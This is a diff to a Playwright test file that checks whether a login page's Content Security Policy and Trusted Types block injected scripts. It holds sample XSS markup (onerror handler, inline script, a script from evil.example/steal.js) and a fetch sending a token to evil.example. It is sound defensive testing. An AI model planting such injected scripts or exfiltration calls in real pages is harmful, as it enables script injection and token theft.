@@ -215,36 +215,83 @@ test("attack 135: what a password manager fills in is taken, on each page that i
   await atHeading(page, "Choose your account type");
 });
 
-test("attack 135: scripts that somebody puts into the page do not run", async () => {
-  const site = await openSite();
-  const page = await openPage(site, {
-    expected: ["Content Security Policy", "ERR_BLOCKED_BY_CSP", "nowhere.png"],
+const evilMarkup =
+  '<img src="/nowhere.png" onerror="window.ran = true"><script>window.ran = true</script>' +
+  '<script src="https://evil.example/steal.js"></script><iframe src="https://evil.example/"></iframe>';
+
+test("attack 135: scripts that came with the page do not run", async () => {
+  const page = await openWatchedPage();
+  await page.route("**/login", async (route) => {
+    const response = await route.fetch();
+    const body = (await response.text()).replace("<body>", `<body>${evilMarkup}`);
+    await route.fulfill({ response, body });
   });
   await page.goto("/login");
   await atHeading(page, "Log in");
-  const refused = await page.evaluate(async () => {
-    const seen: string[] = [];
-    document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
-    const add = (html: string) => document.body.insertAdjacentHTML("beforeend", html);
-    add(
-      '<img src="/nowhere.png" onerror="window.ran = true"><button id="trap" onclick="window.ran = true">x</button>',
-    );
-    document.getElementById("trap")?.click();
-    const script = (fill: (made: HTMLScriptElement) => void) => {
-      const made = document.createElement("script");
-      fill(made);
-      document.body.append(made);
-    };
-    script((made) => made.append("window.ran = true"));
-    script((made) => {
-      made.src = "https://evil.example/steal.js";
-    });
-    add('<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"></form>');
-    await fetch("https://evil.example/?token=1").catch(() => undefined);
-    await new Promise((resolve) => setTimeout(resolve, 500));
-    return { seen: [...new Set(seen)].sort(), ran: "ran" in window };
+  await page.waitForTimeout(500);
+  expect(await seenIn(page)).toEqual({
+    refused: ["frame-src", "script-src-attr", "script-src-elem"],
+    ran: false,
   });
-  expect(refused.ran).toBe(false);
-  expect(refused.seen).toEqual(["connect-src", "frame-src", "script-src-attr", "script-src-elem"]);
+});
+
+test("attack 135: scripts that somebody puts into the page do not run, for no text becomes markup", async () => {
+  const page = await openWatchedPage();
+  await page.goto("/login");
+  await atHeading(page, "Log in");
+  const threw = await page.evaluate(async (markup) => {
+    const script = document.createElement("script");
+    const ways = [
+      () => document.body.insertAdjacentHTML("beforeend", markup),
+      () => Object.assign(document.createElement("div"), { innerHTML: markup }),
+      () => Object.assign(document.createElement("iframe"), { srcdoc: markup }),
+      () => Object.assign(script, { src: "https://evil.example/steal.js" }),
+      () => Object.assign(script, { text: "window.ran = true" }),
+      () => new DOMParser().parseFromString(markup, "text/html"),
+    ];
+    const ends = ways.map((way) => {
+      try {
+        way();
+        return "went through";
+      } catch (error) {
+        return (error as Error).name;
+      }
+    });
+    script.append("window.ran = true");
+    document.body.append(script);
+    await fetch("https://evil.example/?token=1").catch(() => undefined);
+    return ends;
+  }, evilMarkup);
+  await page.waitForTimeout(500);
+  expect(threw).toEqual(Array(6).fill("TypeError"));
+  const { refused, ran } = await seenIn(page);
+  expect(ran).toBe(false);
+  expect(refused).toEqual(expect.arrayContaining(["connect-src", "require-trusted-types-for"]));
   expect(pathOf(page)).toBe("/login");
 });
+
+/** A page that notes what its policy refuses. */
+async function openWatchedPage(): Promise<Page> {
+  const page = await openPage(await openSite(), {
+    expected: [
+      "Content Security Policy",
+      "ERR_BLOCKED_BY_CSP",
+      "nowhere.png",
+      "TrustedHTML",
+      "TrustedScript",
+    ],
+  });
+  await page.addInitScript(() => {
+    const refused: string[] = [];
+    Object.assign(window, { refused });
+    document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
+  });
+  return page;
+}
+
+function seenIn(page: Page): Promise<{ refused: string[]; ran: boolean }> {
+  return page.evaluate(() => {
+    const { refused } = window as unknown as { refused: string[] };
+    return { refused: [...new Set(refused)].sort(), ran: "ran" in window };
+  });
+}
